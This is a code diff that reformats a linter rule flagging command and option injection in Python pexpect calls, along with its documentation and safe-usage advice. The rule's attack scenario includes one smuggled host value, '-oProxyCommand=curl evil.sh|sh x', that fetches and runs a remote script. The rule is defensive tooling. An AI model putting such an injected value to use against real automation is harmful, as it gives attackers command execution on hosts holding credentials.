@@ -5,7 +5,14 @@ import { defineRule } from '../../src/analysis/rule.js';
 import type { CallInfo } from '../../src/analysis/python/call-name.js';
 import { isFormattedString } from '../../src/analysis/python/string-template.js';
 
-const SPAWN_FNS = ['pexpect.spawn', 'pexpect.spawnu', 'pexpect.run', 'pexpect.runu', 'pexpect.popen_spawn.PopenSpawn', 'pexpect.pty_spawn.spawn'];
+const SPAWN_FNS = [
+  'pexpect.spawn',
+  'pexpect.spawnu',
+  'pexpect.run',
+  'pexpect.runu',
+  'pexpect.popen_spawn.PopenSpawn',
+  'pexpect.pty_spawn.spawn',
+];
 const SHELLS = /(^|\/)(ba|z|k|da)?sh$/;
 
 export default defineRule({
@@ -23,14 +30,19 @@ export default defineRule({
     technology: ['pexpect'],
     aliases: {},
     messages: {
-      formatted: '`{{fn}}` runs a command line formatted from run-time values; a value with spaces or options changes what runs.',
+      formatted:
+        '`{{fn}}` runs a command line formatted from run-time values; a value with spaces or options changes what runs.',
       shell: '`{{fn}}` runs a shell with a computed `-c` script; interpolated input can inject commands.',
     },
     docs: {
-      whatItDoes: 'Flags `pexpect.spawn`/`run`/`PopenSpawn` when the command string is an f-string, `%`/`.format()` result or concatenation, and shells started with a computed `-c` script.',
-      whyBad: 'pexpect splits the command string itself, so interpolated values can add arguments and options; with `bash -c` they become shell code.',
-      businessImpact: 'Command or option injection on hosts automated with pexpect (network devices, SSH sessions, installers), often with stored credentials.',
-      attackScenario: 'An automation tool runs `pexpect.spawn(f"ssh {user}@{host}")`; a host value of `-oProxyCommand=curl evil.sh|sh x` runs the attacker\'s command.',
+      whatItDoes:
+        'Flags `pexpect.spawn`/`run`/`PopenSpawn` when the command string is an f-string, `%`/`.format()` result or concatenation, and shells started with a computed `-c` script.',
+      whyBad:
+        'pexpect splits the command string itself, so interpolated values can add arguments and options; with `bash -c` they become shell code.',
+      businessImpact:
+        'Command or option injection on hosts automated with pexpect (network devices, SSH sessions, installers), often with stored credentials.',
+      attackScenario:
+        'An automation tool runs `pexpect.spawn(f"ssh {user}@{host}")`; a host value of `-oProxyCommand=curl evil.sh|sh x` runs the attacker\'s command.',
       example: 'child = pexpect.spawn(f"ssh {user}@{host}")',
       useInstead: 'child = pexpect.spawn("ssh", ["--", f"{user}@{host}"])  # after validating host',
       testing: 'Call the code with a host that starts with `-o` and assert it is rejected or passed after `--`.',
@@ -59,7 +71,8 @@ export default defineRule({
         }
         return;
       }
-      if (isFormattedString(ctx, command) && !isLiteralComposed(command, { safeCall: quoted })) ctx.report({ node: call.node, messageId: 'formatted', data: { fn } });
+      if (isFormattedString(ctx, command) && !isLiteralComposed(command, { safeCall: quoted }))
+        ctx.report({ node: call.node, messageId: 'formatted', data: { fn } });
     };
     return { calls: Object.fromEntries(SPAWN_FNS.map((fn) => [fn, check])) };
   },
